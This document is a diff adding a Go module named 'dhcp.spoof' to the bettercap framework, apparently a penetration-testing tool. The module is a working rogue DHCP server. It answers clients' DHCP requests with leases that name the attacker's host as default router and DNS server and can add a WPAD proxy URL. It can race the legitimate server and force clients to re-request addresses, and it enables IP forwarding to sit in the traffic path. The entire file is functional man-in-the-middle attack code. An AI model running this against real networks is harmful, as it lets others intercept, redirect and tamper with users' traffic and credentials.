@@ -0,0 +1,512 @@
+package dhcp_spoof
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/v2/network"
+	"github.com/bettercap/bettercap/v2/packets"
+	"github.com/bettercap/bettercap/v2/session"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+	"github.com/gopacket/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// how long an offered address is reserved before the client requests it
+const offerTimeout = 60 * time.Second
+
+type Lease struct {
+	IP      net.IP
+	Expires time.Time
+	Bound   bool
+}
+
+type DHCPSpoofer struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	Race          bool
+	Router        []net.IP
+	DNS           []net.IP
+	WPAD          string
+	LeaseTime     time.Duration
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	poolFirst     uint32
+	poolLast      uint32
+	leases        map[string]*Lease
+	leaseLock     *sync.Mutex
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewDHCPSpoofer(s *session.Session) *DHCPSpoofer {
+	mod := &DHCPSpoofer{
+		SessionModule: session.NewSessionModule("dhcp.spoof", s),
+		Handle:        nil,
+		leases:        make(map[string]*Lease),
+		leaseLock:     &sync.Mutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.SessionModule.Requires("net.recon")
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.targets", "",
+		"",
+		"Comma separated list of MAC addresses, IP addresses or aliases to answer to, empty for every client."))
+
+	mod.AddParam(session.NewBoolParameter("dhcp.spoof.race",
+		"true",
+		"If true, requests addressed to other DHCP servers and renewals of their leases will be answered too, racing the legitimate server, otherwise only clients accepting our offers will be served."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.pool",
+		"",
+		"",
+		"Range of addresses to lease as FIRST-LAST or CIDR, empty for the whole subnet of the interface."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.router",
+		"",
+		"",
+		"Comma separated list of routers to hand out, empty for the address of the interface."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.dns",
+		"",
+		"",
+		"Comma separated list of DNS servers to hand out, empty for the address of the interface."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.wpad",
+		"",
+		"",
+		"If not empty, the proxy auto-config URL to hand out with option 252 (WPAD)."))
+
+	mod.AddParam(session.NewIntParameter("dhcp.spoof.lease_time",
+		"3600",
+		"Lease time in seconds."))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp.spoof on", "",
+		"Start the DHCP spoofer in the background.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp.spoof off", "",
+		"Stop the DHCP spoofer in the background.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod DHCPSpoofer) Name() string {
+	return "dhcp.spoof"
+}
+
+func (mod DHCPSpoofer) Description() string {
+	return "Replies to DHCPv4 messages as a rogue DHCP server, handing out addresses with the attackers host as default router and DNS server."
+}
+
+func (mod DHCPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func ipToUint32(ip net.IP) uint32 {
+	if ip4 := ip.To4(); ip4 != nil {
+		return binary.BigEndian.Uint32(ip4)
+	}
+	return 0
+}
+
+func uint32ToIP(n uint32) net.IP {
+	ip := make(net.IP, 4)
+	binary.BigEndian.PutUint32(ip, n)
+	return ip
+}
+
+// parsePool returns the first and last usable addresses of a FIRST-LAST or
+// CIDR range, the network and broadcast addresses of subnets are excluded.
+func parsePool(pool string, subnet *net.IPNet) (first uint32, last uint32, err error) {
+	pool = strings.TrimSpace(pool)
+	if pool == "" {
+		if subnet == nil {
+			return 0, 0, fmt.Errorf("interface has no IPv4 subnet")
+		}
+		pool = subnet.String()
+	}
+
+	if parts := strings.SplitN(pool, "-", 2); len(parts) == 2 {
+		from := net.ParseIP(strings.TrimSpace(parts[0]))
+		to := net.ParseIP(strings.TrimSpace(parts[1]))
+		if from.To4() == nil || to.To4() == nil {
+			return 0, 0, fmt.Errorf("invalid address range '%s'", pool)
+		}
+		first, last = ipToUint32(from), ipToUint32(to)
+	} else if _, cidr, perr := net.ParseCIDR(pool); perr != nil || cidr.IP.To4() == nil {
+		return 0, 0, fmt.Errorf("invalid address range '%s'", pool)
+	} else {
+		ones, bits := cidr.Mask.Size()
+		first = ipToUint32(cidr.IP)
+		last = first | (1<<uint(bits-ones) - 1)
+		if bits-ones > 1 {
+			first++
+			last--
+		}
+	}
+
+	if first > last {
+		return 0, 0, fmt.Errorf("invalid address range '%s'", pool)
+	}
+
+	return first, last, nil
+}
+
+func parseIPList(list []string, def net.IP) ([]net.IP, error) {
+	ips := make([]net.IP, 0)
+	for _, s := range list {
+		if ip := net.ParseIP(s); ip == nil || ip.To4() == nil {
+			return nil, fmt.Errorf("'%s' is not a valid IPv4 address", s)
+		} else {
+			ips = append(ips, ip.To4())
+		}
+	}
+
+	if len(ips) == 0 {
+		ips = append(ips, def)
+	}
+
+	return ips, nil
+}
+
+func (mod *DHCPSpoofer) Configure() error {
+	var err error
+	var targets, pool, wpad string
+	var routers, dns []string
+	var leaseTime int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	}
+
+	if err, targets = mod.StringParam("dhcp.spoof.targets"); err != nil {
+		return err
+	} else if mod.addresses, mod.macs, err = network.ParseTargets(targets, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if err, mod.Race = mod.BoolParam("dhcp.spoof.race"); err != nil {
+		return err
+	} else if err, pool = mod.StringParam("dhcp.spoof.pool"); err != nil {
+		return err
+	} else if mod.poolFirst, mod.poolLast, err = parsePool(pool, mod.Session.Interface.Net); err != nil {
+		return err
+	} else if err, routers = mod.ListParam("dhcp.spoof.router"); err != nil {
+		return err
+	} else if mod.Router, err = parseIPList(routers, mod.Session.Interface.IP); err != nil {
+		return err
+	} else if err, dns = mod.ListParam("dhcp.spoof.dns"); err != nil {
+		return err
+	} else if mod.DNS, err = parseIPList(dns, mod.Session.Interface.IP); err != nil {
+		return err
+	} else if err, wpad = mod.StringParam("dhcp.spoof.wpad"); err != nil {
+		return err
+	} else if err, leaseTime = mod.IntParam("dhcp.spoof.lease_time"); err != nil {
+		return err
+	} else if leaseTime <= 0 {
+		return fmt.Errorf("dhcp.spoof.lease_time must be greater than 0")
+	}
+
+	mod.WPAD = wpad
+	mod.LeaseTime = time.Duration(leaseTime) * time.Second
+
+	if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+		return err
+	}
+
+	err = mod.Handle.SetBPFFilter("udp and src port 68 and dst port 67")
+	if err != nil {
+		return err
+	}
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("Enabling forwarding.")
+		mod.Session.Firewall.EnableForwarding(true)
+	}
+
+	return nil
+}
+
+func (mod *DHCPSpoofer) isTarget(mac net.HardwareAddr) bool {
+	if len(mod.addresses) == 0 && len(mod.macs) == 0 {
+		return true
+	}
+
+	for _, target := range mod.macs {
+		if bytes.Equal(target, mac) {
+			return true
+		}
+	}
+
+	if e, found := mod.Session.Lan.Get(mac.String()); found {
+		for _, ip := range mod.addresses {
+			if ip.Equal(e.IP) {
+				return true
+			}
+		}
+	}
+
+	return false
+}
+
+// isFree returns true if the address can be leased to mac.
+func (mod *DHCPSpoofer) isFree(ip net.IP, mac string) bool {
+	n := ipToUint32(ip)
+	if n < mod.poolFirst || n > mod.poolLast {
+		return false
+	} else if ip.Equal(mod.Session.Interface.IP) || ip.Equal(mod.Session.Gateway.IP) {
+		return false
+	}
+
+	for _, reserved := range append(mod.Router, mod.DNS...) {
+		if ip.Equal(reserved) {
+			return false
+		}
+	}
+
+	now := time.Now()
+	for other, lease := range mod.leases {
+		if other != mac && lease.IP.Equal(ip) && lease.Expires.After(now) {
+			return false
+		}
+	}
+
+	if e := mod.Session.Lan.GetByIp(ip.String()); e != nil && e.HwAddress != mac {
+		return false
+	}
+
+	return true
+}
+
+// allocate returns the address to lease to a client, preferring its current
+// lease and then the requested address, or nil if the pool is exhausted.
+func (mod *DHCPSpoofer) allocate(mac string, requested net.IP) net.IP {
+	if lease, found := mod.leases[mac]; found && lease.Expires.After(time.Now()) {
+		return lease.IP
+	}
+
+	if requested != nil && mod.isFree(requested, mac) {
+		return requested.To4()
+	}
+
+	for n := mod.poolFirst; n <= mod.poolLast && n != 0; n++ {
+		if ip := uint32ToIP(n); mod.isFree(ip, mac) {
+			return ip
+		}
+	}
+
+	return nil
+}
+
+func (mod *DHCPSpoofer) leaseOptions(reply *layers.DHCPv4) {
+	mask := net.IP(net.CIDRMask(32, 32))
+	if subnet := mod.Session.Interface.Net; subnet != nil {
+		mask = net.IP(subnet.Mask)
+	}
+
+	reply.Options = append(reply.Options,
+		layers.NewDHCPOption(layers.DHCPOptLeaseTime, packets.DHCPEncodeDuration(mod.LeaseTime)),
+		layers.NewDHCPOption(layers.DHCPOptT1, packets.DHCPEncodeDuration(mod.LeaseTime/2)),
+		layers.NewDHCPOption(layers.DHCPOptT2, packets.DHCPEncodeDuration(mod.LeaseTime*7/8)),
+		layers.NewDHCPOption(layers.DHCPOptSubnetMask, mask.To4()))
+
+	mod.configOptions(reply)
+}
+
+func (mod *DHCPSpoofer) configOptions(reply *layers.DHCPv4) {
+	reply.Options = append(reply.Options,
+		layers.NewDHCPOption(layers.DHCPOptRouter, packets.DHCPEncodeIPs(mod.Router)),
+		layers.NewDHCPOption(layers.DHCPOptDNS, packets.DHCPEncodeIPs(mod.DNS)))
+
+	if mod.WPAD != "" {
+		reply.Options = append(reply.Options, layers.NewDHCPOption(packets.DHCPOptWPAD, []byte(mod.WPAD)))
+	}
+}
+
+func requestInfo(req *layers.DHCPv4) (msgType layers.DHCPMsgType, serverID net.IP, requested net.IP, hostname string) {
+	msgType = layers.DHCPMsgTypeUnspecified
+	for _, opt := range req.Options {
+		switch opt.Type {
+		case layers.DHCPOptMessageType:
+			if len(opt.Data) == 1 {
+				msgType = layers.DHCPMsgType(opt.Data[0])
+			}
+		case layers.DHCPOptServerID:
+			if len(opt.Data) == 4 {
+				serverID = net.IP(opt.Data)
+			}
+		case layers.DHCPOptRequestIP:
+			if len(opt.Data) == 4 {
+				requested = net.IP(opt.Data)
+			}
+		case layers.DHCPOptHostname:
+			hostname = strings.TrimRight(string(opt.Data), "\x00")
+		}
+	}
+
+	if requested == nil && req.ClientIP != nil && !req.ClientIP.IsUnspecified() {
+		requested = req.ClientIP
+	}
+
+	return
+}
+
+// replyFor returns the reply to a client request, or nil if it must be ignored.
+func (mod *DHCPSpoofer) replyFor(req *layers.DHCPv4) *layers.DHCPv4 {
+	if req.Operation != layers.DHCPOpRequest || len(req.ClientHWAddr) != 6 || !mod.isTarget(req.ClientHWAddr) {
+		return nil
+	}
+
+	mac := network.NormalizeMac(req.ClientHWAddr.String())
+	msgType, serverID, requested, hostname := requestInfo(req)
+	ours := serverID != nil && serverID.Equal(mod.Session.Interface.IP)
+
+	mod.leaseLock.Lock()
+	defer mod.leaseLock.Unlock()
+
+	switch msgType {
+	case layers.DHCPMsgTypeDiscover:
+		ip := mod.allocate(mac, requested)
+		if ip == nil {
+			mod.Warning("Address pool exhausted, could not offer an address to %s.", mac)
+			return nil
+		}
+
+		if lease, found := mod.leases[mac]; !found || !lease.IP.Equal(ip) || !lease.Bound {
+			mod.leases[mac] = &Lease{IP: ip, Expires: time.Now().Add(offerTimeout)}
+		}
+
+		mod.Info("Got DHCP Discover from %s, offering %s.", tui.Bold(mac), ip)
+
+		reply := packets.DHCPReplyFor(layers.DHCPMsgTypeOffer, req, mod.Session.Interface.IP, ip)
+		mod.leaseOptions(reply)
+		return reply
+
+	case layers.DHCPMsgTypeRequest:
+		_, leased := mod.leases[mac]
+		if serverID != nil && !ours && !mod.Race {
+			// the client picked another server
+			delete(mod.leases, mac)
+			return nil
+		} else if serverID == nil && !leased && !mod.Race {
+			// renewal of someone else's lease
+			return nil
+		}
+
+		ip := mod.allocate(mac, requested)
+		if ip == nil || (requested != nil && !requested.Equal(ip)) {
+			// force the client back to the discover phase
+			mod.Info("Refusing DHCP Request of %s for %s.", tui.Bold(mac), requested)
+			delete(mod.leases, mac)
+			return packets.DHCPReplyFor(layers.DHCPMsgTypeNak, req, mod.Session.Interface.IP, nil)
+		}
+
+		mod.leases[mac] = &Lease{IP: ip, Expires: time.Now().Add(mod.LeaseTime), Bound: true}
+		mod.onLease(mac, ip, hostname)
+
+		reply := packets.DHCPReplyFor(layers.DHCPMsgTypeAck, req, mod.Session.Interface.IP, ip)
+		mod.leaseOptions(reply)
+		return reply
+
+	case layers.DHCPMsgTypeInform:
+		reply := packets.DHCPReplyFor(layers.DHCPMsgTypeAck, req, mod.Session.Interface.IP, nil)
+		mod.configOptions(reply)
+		return reply
+
+	case layers.DHCPMsgTypeRelease, layers.DHCPMsgTypeDecline:
+		if lease, found := mod.leases[mac]; found && (ours || serverID == nil) {
+			mod.Info("%s released %s.", mac, lease.IP)
+			delete(mod.leases, mac)
+		}
+	}
+
+	return nil
+}
+
+// onLease tracks a bound lease in the hosts list.
+func (mod *DHCPSpoofer) onLease(mac string, ip net.IP, hostname string) {
+	mod.Info("IPv4 address %s is now assigned to %s", tui.Bold(ip.String()), mac)
+
+	e := mod.Session.Lan.AddIfNew(ip.String(), mac)
+	if e == nil {
+		e, _ = mod.Session.Lan.Get(mac)
+	} else if e.IpAddress != ip.String() {
+		e.SetIP(ip.String())
+	}
+
+	if e != nil {
+		meta := map[string]string{
+			"dhcp.spoof:lease": fmt.Sprintf("%s until %s", ip, time.Now().Add(mod.LeaseTime).Format(time.RFC3339)),
+		}
+		if hostname != "" {
+			meta["dhcp:hostname"] = hostname
+		}
+		e.OnMeta(meta)
+	}
+}
+
+func (mod *DHCPSpoofer) onPacket(pkt gopacket.Packet) {
+	layer := pkt.Layer(layers.LayerTypeDHCPv4)
+	if layer == nil {
+		return
+	}
+
+	req := layer.(*layers.DHCPv4)
+	reply := mod.replyFor(req)
+	if reply == nil {
+		return
+	}
+
+	err, raw := packets.NewDHCPReply(mod.Session.Interface.IP, mod.Session.Interface.HW, req, reply)
+	if err != nil {
+		mod.Error("Error serializing packet: %s.", err)
+		return
+	}
+
+	mod.Debug("Sending %d bytes of packet ...", len(raw))
+	if err := mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("Error sending packet: %s", err)
+	}
+}
+
+func (mod *DHCPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *DHCPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.Handle.Close()
+		mod.waitGroup.Wait()
+	})
+}